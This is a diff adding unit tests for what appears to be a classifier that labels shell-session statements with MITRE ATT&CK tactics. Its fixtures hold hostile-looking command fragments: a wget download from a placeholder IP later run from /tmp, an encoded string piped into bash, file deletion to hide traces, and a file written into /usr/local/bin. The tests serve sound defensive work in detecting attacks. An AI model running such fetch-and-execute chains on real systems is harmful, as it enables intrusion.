@@ -120,6 +120,62 @@ class LabelMappingTest {
     TaggedStatement stop = statement("a ;", "TA0040 T1489");
     assertThat(predict(removal, stop, removal)).containsExactly(IMPACT, IMPACT, DEFENSE_EVASION);
     assertThat(predict(removal)).containsExactly(DEFENSE_EVASION);
+    TaggedStatement hide = statement("b ;", "TA0005 T1070.003");
+    assertThat(predict(stop, removal, hide))
+        .containsExactly(IMPACT, DEFENSE_EVASION, DEFENSE_EVASION);
+  }
+
+  @Test
+  void aRemovalBetweenStepsHidesOnlyWhatTheSessionNamed() {
+    TaggedStatement look = statement("a ;", "TA0007 T1082");
+    TaggedStatement stop = statement("b ;", "TA0040 T1489");
+    TaggedStatement removal = statement("rm .s ;", "TA0005 T1070.004");
+    assertThat(predict(look, removal, stop)).containsExactly(DISCOVERY, IMPACT, IMPACT);
+    assertThat(predict(look, statement("cp x .s ;"), removal, stop))
+        .containsExactly(DISCOVERY, DISCOVERY, DEFENSE_EVASION, IMPACT);
+  }
+
+  @Test
+  void aPipelineThatEndsInAProgramRunsWhatWasBrought() {
+    TaggedStatement encoded = statement("echo eA |", "TA0005 T1140");
+    TaggedStatement shell = statement("bash ;", "TA0002 T1059");
+    assertThat(predict(encoded, shell)).containsExactly(EXECUTION, EXECUTION);
+    assertThat(predict(encoded, statement("wc ;"))).containsExactly(HARMLESS, HARMLESS);
+  }
+
+  @Test
+  void aFileBroughtIntoAFolderOfProgramsIsMeantToRun() {
+    assertThat(predict(statement("tee /usr/local/bin/name > /dev/null ;", "TA0011 T1105")))
+        .containsExactly(EXECUTION);
+    assertThat(predict(statement("tee /usr/local/name ;", "TA0011 T1105")))
+        .containsExactly(HARMLESS);
+    assertThat(predict(statement("/usr/bin/tee name ;", "TA0011 T1105"))).containsExactly(HARMLESS);
+    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
+    assertThat(predict(brought, statement("ls /usr/bin/x ;", "TA0007 T1083")))
+        .containsExactly(HARMLESS, DISCOVERY);
+  }
+
+  @Test
+  void whoInstallsPackagesMeansToRunWhatIsBrought() {
+    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
+    assertThat(predict(statement("apt-get -y install name ;"), brought))
+        .containsExactly(EXECUTION, EXECUTION);
+    assertThat(predict(statement("apt-get update ;"), brought)).containsExactly(HARMLESS, HARMLESS);
+    assertThat(predict(statement("cat install ;"), brought)).containsExactly(HARMLESS, HARMLESS);
+    assertThat(predict(statement("apt install name ;"))).containsExactly(HARMLESS);
+  }
+
+  @Test
+  void variablesBeforeAProgramAreNotTheProgram() {
+    TaggedStatement look = statement("a ;", "TA0007 T1082");
+    TaggedStatement stop = statement("b ;", "TA0040 T1489");
+    assertThat(predict(look, statement("A=1 B_2=/x cd /tmp ;"), stop))
+        .containsExactly(DISCOVERY, IMPACT, IMPACT);
+    assertThat(predict(look, statement("a=cd ;"), stop))
+        .containsExactly(DISCOVERY, DISCOVERY, IMPACT);
+    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
+    assertThat(predict(brought, statement("A=1 /tmp/x ;"))).containsExactly(EXECUTION, EXECUTION);
+    assertThat(predict(brought, statement("A=/tmp/x ;"))).containsExactly(HARMLESS, HARMLESS);
   }
 
   @Test
